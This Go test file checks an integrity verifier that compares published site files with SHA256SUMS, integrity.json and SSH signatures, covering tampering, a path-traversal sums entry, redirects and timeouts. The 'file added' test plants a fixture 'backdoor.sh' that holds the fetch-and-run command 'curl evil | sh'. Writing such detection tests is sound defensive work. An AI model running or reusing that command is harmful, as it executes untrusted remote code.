package integrity

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/evident-dev/evident/generator/diag"
	"github.com/google/go-cmp/cmp"
	"golang.org/x/crypto/ssh"
)

var siteFiles = map[string]string{
	"index.html":                       "<!doctype html><title>trust</title>\n",
	"en/index.html":                    "<!doctype html><title>trust (en)</title>\n",
	"downloads/acme gateway 2.3.1.tgz": strings.Repeat("\x1f\x8b binary ", 4096),
	"資料/セキュリティ報告書.pdf":                 "%PDF-1.7 ...",
	"sbom/acme-gateway-2.3.1.cdx.json": `{"bomFormat":"CycloneDX"}`,
	"a?b#c%20d.txt":                    "URL-special characters in a name",
}

// buildExcludes are the files a build leaves out of SHA256SUMS; a directory
// verify must then be told about integrity.json.
var buildExcludes = []string{SumsFile, SumsSigFile, ManifestFile}

// publish writes siteFiles to a new directory with integrity.json, SHA256SUMS
// and, when signer is not nil, SHA256SUMS.sig: what `evident build` does.
func publish(t *testing.T, signer ssh.Signer) string {
	t.Helper()
	dir := t.TempDir()
	writeTree(t, dir, siteFiles)
	republish(t, dir, signer)
	return dir
}

// republish regenerates the integrity files of dir from its current content.
func republish(t *testing.T, dir string, signer ssh.Signer) {
	t.Helper()
	entries, err := Tree(dir, buildExcludes...)
	if err != nil {
		t.Fatal(err)
	}
	var sums, man bytes.Buffer
	if err := WriteSums(&sums, entries); err != nil {
		t.Fatal(err)
	}
	if err := WriteManifest(&man, entries); err != nil {
		t.Fatal(err)
	}
	writeTree(t, dir, map[string]string{SumsFile: sums.String(), ManifestFile: man.String()})
	if signer != nil {
		sig, err := SignSSH(signer, SignatureNamespace, &sums)
		if err != nil {
			t.Fatal(err)
		}
		writeTree(t, dir, map[string]string{SumsSigFile: string(sig)})
	}
}

func rewriteManifest(t *testing.T, dir string, edit func([]Entry) []Entry) {
	t.Helper()
	f, err := os.Open(filepath.Join(dir, ManifestFile))
	if err != nil {
		t.Fatal(err)
	}
	entries, err := ReadManifest(ManifestFile, f)
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := WriteManifest(&b, edit(entries)); err != nil {
		t.Fatal(err)
	}
	writeTree(t, dir, map[string]string{ManifestFile: b.String()})
}

// serve publishes dir on 127.0.0.1 and returns the site URL.
func serve(t *testing.T, dir string) string {
	t.Helper()
	srv := httptest.NewServer(http.FileServer(http.Dir(dir)))
	t.Cleanup(srv.Close)
	return srv.URL + "/"
}

// where runs a test against the directory itself and against it served over HTTP.
var where = map[string]func(t *testing.T, dir string) string{
	"dir":  func(t *testing.T, dir string) string { return dir },
	"http": serve,
}

func verify(t *testing.T, src string, opt VerifyOptions) *Report {
	t.Helper()
	if opt.Exclude == nil {
		opt.Exclude = []string{ManifestFile}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	rep, err := Verify(ctx, src, opt)
	if err != nil {
		t.Fatalf("Verify(%s): %v", src, err)
	}
	return rep
}

func TestVerifyTampering(t *testing.T) {
	const report = "資料/セキュリティ報告書.pdf"
	for name, src := range where {
		t.Run(name, func(t *testing.T) {
			t.Run("clean", func(t *testing.T) {
				dir := publish(t, nil)
				rep := verify(t, src(t, dir), VerifyOptions{})
				want := &Report{Checked: len(siteFiles), Manifest: true}
				if diff := cmp.Diff(want, rep); diff != "" || !rep.OK() {
					t.Errorf("report (-want +got):\n%s", diff)
				}
			})
			t.Run("one byte changed", func(t *testing.T) {
				dir := publish(t, nil)
				p := filepath.Join(dir, filepath.FromSlash(report))
				b := readFile(t, p)
				b[3] ^= 1
				writeTree(t, dir, map[string]string{report: string(b)})
				rep := verify(t, src(t, dir), VerifyOptions{})
				want := &Report{Checked: len(siteFiles), Changed: []string{report}, Manifest: true}
				if diff := cmp.Diff(want, rep); diff != "" || rep.OK() {
					t.Errorf("report (-want +got):\n%s", diff)
				}
			})
			t.Run("file deleted", func(t *testing.T) {
				dir := publish(t, nil)
				if err := os.Remove(filepath.Join(dir, "downloads", "acme gateway 2.3.1.tgz")); err != nil {
					t.Fatal(err)
				}
				rep := verify(t, src(t, dir), VerifyOptions{})
				want := &Report{Checked: len(siteFiles) - 1, Missing: []string{"downloads/acme gateway 2.3.1.tgz"}, Manifest: true}
				if diff := cmp.Diff(want, rep); diff != "" || rep.OK() {
					t.Errorf("report (-want +got):\n%s", diff)
				}
			})
			t.Run("file added", func(t *testing.T) {
				dir := publish(t, nil)
				writeTree(t, dir, map[string]string{"downloads/backdoor.sh": "curl evil | sh\n"})
				if name == "http" {
					// A server cannot be listed: the added file is found through
					// an integrity.json that lists it while SHA256SUMS does not.
					rewriteManifest(t, dir, func(e []Entry) []Entry {
						return append(e, Entry{Path: "downloads/backdoor.sh", Size: 15, SHA256: sha("curl evil | sh\n")})
					})
				}
				rep := verify(t, src(t, dir), VerifyOptions{})
				want := &Report{Checked: len(siteFiles), Extra: []string{"downloads/backdoor.sh"}, Manifest: true}
				if diff := cmp.Diff(want, rep); diff != "" || rep.OK() {
					t.Errorf("report (-want +got):\n%s", diff)
				}
			})
			t.Run("size differs from integrity.json", func(t *testing.T) {
				dir := publish(t, nil)
				rewriteManifest(t, dir, func(e []Entry) []Entry {
					for i := range e {
						if e[i].Path == "index.html" {
							e[i].Size++
						}
					}
					return e
				})
				rep := verify(t, src(t, dir), VerifyOptions{})
				want := &Report{Checked: len(siteFiles), Changed: []string{"index.html"}, Manifest: true}
				if diff := cmp.Diff(want, rep); diff != "" {
					t.Errorf("report (-want +got):\n%s", diff)
				}
			})
			t.Run("listed in SHA256SUMS only", func(t *testing.T) {
				dir := publish(t, nil)
				rewriteManifest(t, dir, func(e []Entry) []Entry { return e[1:] })
				rep := verify(t, src(t, dir), VerifyOptions{})
				if diff := cmp.Diff([]string{"a?b#c%20d.txt"}, rep.Extra); diff != "" {
					t.Errorf("Extra (-want +got):\n%s", diff)
				}
			})
			t.Run("without integrity.json", func(t *testing.T) {
				dir := publish(t, nil)
				if err := os.Remove(filepath.Join(dir, ManifestFile)); err != nil {
					t.Fatal(err)
				}
				rep := verify(t, src(t, dir), VerifyOptions{})
				if want := (&Report{Checked: len(siteFiles)}); !cmp.Equal(want, rep) {
					t.Errorf("report = %+v, want %+v", rep, want)
				}
			})
		})
	}
}

func TestVerifySignature(t *testing.T) {
	signers := testSigners(t)
	key, other := signers["ed25519"], signers["ecdsa"]
	pub := ssh.MarshalAuthorizedKey(key.PublicKey())
	for name, src := range where {
		t.Run(name, func(t *testing.T) {
			t.Run("verified", func(t *testing.T) {
				rep := verify(t, src(t, publish(t, key)), VerifyOptions{PublicKey: pub})
				if rep.Signature != "verified" || !rep.OK() {
					t.Errorf("report = %+v", rep)
				}
			})
			t.Run("missing", func(t *testing.T) {
				rep := verify(t, src(t, publish(t, nil)), VerifyOptions{PublicKey: pub})
				if !strings.Contains(rep.Signature, "cannot read signature") || rep.OK() {
					t.Errorf("report = %+v", rep)
				}
			})
			t.Run("other key", func(t *testing.T) {
				rep := verify(t, src(t, publish(t, other)), VerifyOptions{PublicKey: pub})
				if !strings.Contains(rep.Signature, "not the expected key") || rep.OK() {
					t.Errorf("report = %+v", rep)
				}
			})
			t.Run("SHA256SUMS changed after signing", func(t *testing.T) {
				dir := publish(t, key)
				// An attacker replaces a file and its line in SHA256SUMS.
				writeTree(t, dir, map[string]string{"index.html": "pwned"})
				sig := readFile(t, filepath.Join(dir, SumsSigFile))
				republish(t, dir, nil)
				writeTree(t, dir, map[string]string{SumsSigFile: string(sig)})
				rep := verify(t, src(t, dir), VerifyOptions{PublicKey: pub})
				if !strings.Contains(rep.Signature, "does not match") || rep.OK() || len(rep.Changed) != 0 {
					t.Errorf("report = %+v", rep)
				}
			})
		})
	}
}

func TestVerifyHostileSums(t *testing.T) {
	parent := t.TempDir()
	writeTree(t, parent, map[string]string{"secret.txt": "s"})
	dir := filepath.Join(parent, "site")
	writeTree(t, dir, map[string]string{
		"ok.txt": "ok",
		SumsFile: sha("ok") + "  ok.txt\n" + sha("s") + "  ../secret.txt\n",
	})
	for name, src := range where {
		t.Run(name, func(t *testing.T) {
			_, err := Verify(context.Background(), src(t, dir), VerifyOptions{})
			var d diag.Diagnostic
			if !errors.As(err, &d) || d.Pos != (diag.Position{File: SumsFile, Line: 2, Col: 67}) {
				t.Errorf("err = %v, want a diagnostic at SHA256SUMS:2:67", err)
			}
		})
	}
}

func TestVerifyNoSums(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"index.html": "x"})
	for name, src := range where {
		t.Run(name, func(t *testing.T) {
			if _, err := Verify(context.Background(), src(t, dir), VerifyOptions{}); err == nil || !strings.Contains(err.Error(), SumsFile) {
				t.Errorf("err = %v, want one naming %s", err, SumsFile)
			}
		})
	}
}

func TestVerifyHTTPRedirects(t *testing.T) {
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte("x")) // would match, if it were followed
	}))
	defer other.Close()
	sums := sha("x") + "  elsewhere.txt\n" + sha("x") + "  loop.txt\n" + sha("x") + "  moved.txt\n"
	var loops atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/site/SHA256SUMS":
			w.Write([]byte(sums))
		case "/site/elsewhere.txt":
			http.Redirect(w, r, other.URL+"/elsewhere.txt", http.StatusFound)
		case "/site/loop.txt":
			loops.Add(1)
			http.Redirect(w, r, "loop.txt", http.StatusFound)
		case "/site/moved.txt":
			http.Redirect(w, r, "/site/new/moved.txt", http.StatusMovedPermanently)
		case "/site/new/moved.txt":
			w.Write([]byte("x"))
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()

	// The site root without a final slash is still a folder.
	rep, err := Verify(context.Background(), srv.URL+"/site", VerifyOptions{MaxRedirects: 3, Concurrency: 1})
	if err == nil {
		t.Fatal("Verify followed a redirect to another host or an endless loop")
	}
	for _, want := range []string{"elsewhere.txt", "another host", "loop.txt", "stopped after 3 redirects"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not mention %q", err, want)
		}
	}
	if n := loops.Load(); n != 4 {
		t.Errorf("loop.txt requested %d times, want 1 + 3 redirects", n)
	}
	if rep == nil || rep.Checked != 1 || len(rep.Changed) != 0 {
		t.Errorf("report = %+v, want moved.txt checked through a same-host redirect", rep)
	}
}

func TestVerifyHTTPTimeout(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/SHA256SUMS":
			w.Write([]byte(sha("x") + "  slow.bin\n"))
			return
		case "/integrity.json":
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Length", "1000")
		w.Write([]byte("partial"))
		w.(http.Flusher).Flush()
		select { // hang mid-body until the client gives up, but never forever
		case <-r.Context().Done():
		case <-time.After(10 * time.Second):
		}
	}))
	defer srv.Close()
	start := time.Now()
	_, err := Verify(context.Background(), srv.URL, VerifyOptions{RequestTimeout: 200 * time.Millisecond})
	if err == nil || !strings.Contains(err.Error(), "slow.bin") {
		t.Errorf("err = %v, want a timeout naming slow.bin", err)
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("Verify took %v despite a 200ms request timeout", d)
	}
}

func TestVerifyServerError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/SHA256SUMS":
			w.Write([]byte(sha("x") + "  broken.txt\n" + sha("x") + "  gone.txt\n"))
		case "/broken.txt":
			http.Error(w, "oops", http.StatusInternalServerError)
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	rep, err := Verify(context.Background(), srv.URL, VerifyOptions{})
	if err == nil || !strings.Contains(err.Error(), "broken.txt") || !strings.Contains(err.Error(), "500") {
		t.Errorf("err = %v, want a 500 naming broken.txt", err)
	}
	if rep == nil || !cmp.Equal(rep.Missing, []string{"gone.txt"}) {
		t.Errorf("report = %+v, want gone.txt missing", rep)
	}
}
